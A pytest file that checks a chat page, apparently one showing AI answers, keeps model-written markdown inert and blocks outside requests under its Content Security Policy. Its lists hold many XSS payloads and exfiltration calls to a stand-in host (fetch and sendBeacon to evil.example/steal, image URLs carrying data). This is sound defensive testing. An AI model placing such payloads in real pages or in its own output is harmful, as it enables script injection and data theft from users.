"""What a model writes can do nothing, and the page can reach no other host and keep nothing.

`conftest.Visit` adds to every other test of the page that all its requests stayed at home and
that the browser's storage stayed empty; the tests here attack those promises.
"""

from collections.abc import Callable, Iterator
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from visits import Visit, ask, expect, script, sse, wait_for_the_end

pytestmark = pytest.mark.page

hostile = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x></svg>",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
    "<style>@import url(https://evil.example/a.css); * { display: none }</style>",
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<p style="background: url(https://evil.example/x.png)">styled</p>',
    '<form action="https://evil.example/"><input name=a><button>Send</button></form>',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<a href="javascript:window.pwned=1" onclick="window.pwned=1">click</a>',
    '<video src="https://evil.example/v.mp4" autoplay></video>',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1">',
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<details open ontoggle=window.pwned=1>",
    "![a chart](https://evil.example/x.png?data=secret)",
    "![a chart](data:image/svg+xml,<svg onload=alert(1)>)",
    "[![nested](https://evil.example/a.png)](https://evil.example/b)",
    "![a][img]\n\n[img]: https://evil.example/reference.png",
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt&colon;window.pwned=1)",
    "[click](\x01javascript:window.pwned=1)",
    "[click](data:text/html,<script>window.pwned=1</script>)",
    "[click](vbscript:x)",
    "[click](//evil.example/x)",
    '[click](https://evil.example/ "title\\" onmouseover=window.pwned=1 x=\\"")',
    "[click][ref]\n\n[ref]: javascript:window.pwned=1",
    "<https://evil.example/auto> https://evil.example/bare www.evil.example",
    '```html" onmouseover="window.pwned=1\n<script>window.pwned=1</script>\n```',
    "`<img src=x onerror=window.pwned=1>`",
    "| a |\n|---|\n| <img src=x onerror=window.pwned=1> |",
    "# <img src=x onerror=window.pwned=1>",
    "- [ ] <input onfocus=window.pwned=1 autofocus>",
    '<span class="link"><span class="address">javascript:window.pwned=1</span></span>',
    '<form id="location"></form><a id="document" name="cookie">clobber</a>',
    ">" * 3000 + " deep",
    "[" * 3000,
]

# What may be in an answer: passive elements, and the buttons that links.js and code.js add.
look_for_anything_alive = """async (text) => {
    const { show } = await import("/page/markdown.js");
    const passive = new Set((
        "P BR HR STRONG EM DEL CODE PRE SPAN UL OL LI BLOCKQUOTE H3 H4 H5 H6 " +
        "TABLE THEAD TBODY TR TH TD DIV BUTTON").split(" "));
    const plain = new Set((
        "class align start type tabindex data-language aria-expanded aria-label").split(" "));
    const stage = document.body.appendChild(document.createElement("div"));
    for (let end = 1; end < text.length; end += Math.ceil(text.length / 7)) {
        show(stage, text.slice(0, end), false);
    }
    show(stage, text, true);
    const alive = [];
    for (const element of stage.querySelectorAll("*")) {
        const { tagName, className, textContent } = element;
        if (!passive.has(tagName)) alive.push(tagName);
        for (const { name } of element.attributes) {
            if (!plain.has(name)) alive.push(`${tagName} ${name}`);
        }
        const ours = className === "link" || textContent === "Copy code";
        if (tagName === "BUTTON" && !ours) alive.push("a button of its own");
    }
    await new Promise((resolve) => setTimeout(resolve, 0));
    stage.remove();
    return window.pwned ? ["it ran"] : alive;
}"""


@pytest.fixture(scope="module")
def one_page(browser: Any, house: Any) -> Iterator[Any]:
    guest = Visit(browser, house)
    yield guest.sign_in()
    guest.close()


@pytest.mark.parametrize("text", hostile)
def test_nothing_a_model_writes_is_alive(one_page: Any, text: str) -> None:
    assert one_page.evaluate(look_for_anything_alive, text) == []


pieces = ["<", ">", '"', "'", "`", "](", "![", "[", "\n\n", "    ", "\n> ", "|", "&lt;", "-->"]
shards = st.sampled_from([*hostile[:-2], *pieces])


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(shards | st.text(max_size=6), max_size=6).map("".join))
def test_no_mixture_of_tricks_makes_a_live_element(one_page: Any, text: str) -> None:
    assert one_page.evaluate(look_for_anything_alive, text) == []


def test_a_link_opens_only_after_its_host_was_shown(page: Any) -> None:
    script(page, sse("Read [the guide](https://user@guide.example/a?b=c#d)."))
    ask(page, "?")
    wait_for_the_end(page)
    answer = page.locator(".answer")
    expect(answer).to_contain_text("https://user@guide.example/a?b=c#d")
    assert answer.locator("a").count() == 0
    answer.get_by_role("button", name="the guide").click()
    expect(answer).to_contain_text("Open host guide.example?")
    exit_ = answer.get_by_role("link", name="Open guide.example in a new tab")
    expect(exit_).to_be_focused()
    assert exit_.get_attribute("href") == "https://user@guide.example/a?b=c#d"
    assert exit_.get_attribute("target") == "_blank"
    assert exit_.get_attribute("rel") == "noopener noreferrer"
    answer.get_by_role("button", name="Not now").click()
    assert answer.locator("a").count() == 0


@pytest.mark.parametrize(
    "address",
    ["javascript:alert(1)", "data:text/html,x", "//evil.example", "file:///etc/passwd", "/v1"],
)
def test_only_http_addresses_can_be_opened(one_page: Any, address: str) -> None:
    opened = one_page.evaluate(
        "async (a) => (await import('/page/links.js')).openable(a) !== null", address
    )
    assert not opened
    text = one_page.evaluate(
        "async (a) => (await import('/page/markdown.js')).toFragment(`[x](${a})`).textContent",
        address,
    )
    assert address in text


def test_look_alike_letters_in_a_host_are_shown_as_the_browser_reads_them(page: Any) -> None:
    script(page, sse("[bank](https://\u0430pple.example/)"))  # a Cyrillic a
    ask(page, "?")
    wait_for_the_end(page)
    expect(page.locator(".answer")).to_contain_text("https://xn--pple-43d.example/")


def test_an_image_is_a_line_of_text_with_its_address(page: Any) -> None:
    script(page, sse("![a chart](https://evil.example/x.png?stolen=words)"))
    ask(page, "?")
    wait_for_the_end(page)
    expect(page.locator(".answer")).to_have_text(
        "[image: a chart — https://evil.example/x.png?stolen=words]"
    )
    assert page.locator("img").count() == 0


def test_code_is_coloured_and_stays_text(page: Any) -> None:
    script(page, sse("```html\n<script>window.pwned = 1</script>\n```"))
    ask(page, "?")
    wait_for_the_end(page)
    expect(page.locator(".answer pre .hljs-name").first).to_be_visible()
    expect(page.locator(".answer pre")).to_have_text("<script>window.pwned = 1</script>")
    assert not page.evaluate("window.pwned")


def test_the_highlighter_is_loaded_only_for_code(visit: Callable[..., Any]) -> None:
    guest = visit()
    page = guest.sign_in()
    script(page, sse("no code"))
    ask(page, "?")
    wait_for_the_end(page)
    assert not any("highlight" in url for url in guest.requests)


# Each line is what a script inside the page might try, with the rule that must stop it.
attempts = [
    ("connect-src", "fetch('https://evil.example/steal').catch(() => {})"),
    ("connect-src", "navigator.sendBeacon('https://evil.example/steal', 'words')"),
    ("connect-src", "new WebSocket('wss://evil.example/')"),
    ("connect-src", "new EventSource('https://evil.example/')"),
    ("img-src", "new Image().src = 'https://evil.example/x.png'"),
    ("style-src-attr", "document.body.setAttribute('style', 'color: red')"),
    ("style-src-elem", "add('style', { textContent: '* { color: red }' })"),
    ("style-src-elem", "add('link', { rel: 'stylesheet', href: 'https://evil.example/a.css' })"),
    ("script-src-elem", "import('https://evil.example/a.js').catch(() => {})"),
    ("require-trusted-types-for", "add('script', { textContent: 'window.pwned = 1' })"),
    ("require-trusted-types-for", "add('script', { src: 'https://evil.example/a.js' })"),
    ("require-trusted-types-for", "document.body.innerHTML = '<b>x</b>'"),
    (
        "require-trusted-types-for",
        "navigator.serviceWorker.register('/page/a.js').catch(() => {})",
    ),
    ("require-trusted-types-for", "eval('window.pwned = 1')"),
    ("frame-src", "add('iframe', { src: 'https://evil.example/' })"),
    ("frame-src", "add('iframe', { src: 'data:text/html,x' })"),
    ("base-uri", "add('base', { href: 'https://evil.example/' })"),
    ("form-action", "add('form', { action: '/steal', method: 'post' }).submit()"),
]


@pytest.fixture(scope="module")
def attacked_page(browser: Any, house: Any) -> Iterator[Any]:
    guest = Visit(browser, house)
    yield guest.sign_in()
    guest.close(attacked=True)


@pytest.mark.parametrize(("rule", "attempt"), attempts)
def test_the_browser_refuses_even_if_a_script_of_ours_tried(
    attacked_page: Any, rule: str, attempt: str
) -> None:
    refused = attacked_page.evaluate(f"""async () => {{
        const add = (name, properties) =>
            document.body.appendChild(Object.assign(document.createElement(name), properties));
        const refused = [];
        const note = (event) => refused.push(event.effectiveDirective);
        document.addEventListener("securitypolicyviolation", note);
        setTimeout(() => {{ try {{ {attempt} }} catch {{}} }}, 0);
        for (let waited = 0; waited < 5000 && !refused.length; waited += 20) {{
            await new Promise((resolve) => setTimeout(resolve, 20));
        }}
        await new Promise((resolve) => setTimeout(resolve, 100));  // for the last to be told
        document.removeEventListener("securitypolicyviolation", note);
        return refused;
    }}""")
    assert set(refused) == {rule}
    assert not attacked_page.evaluate("window.pwned")
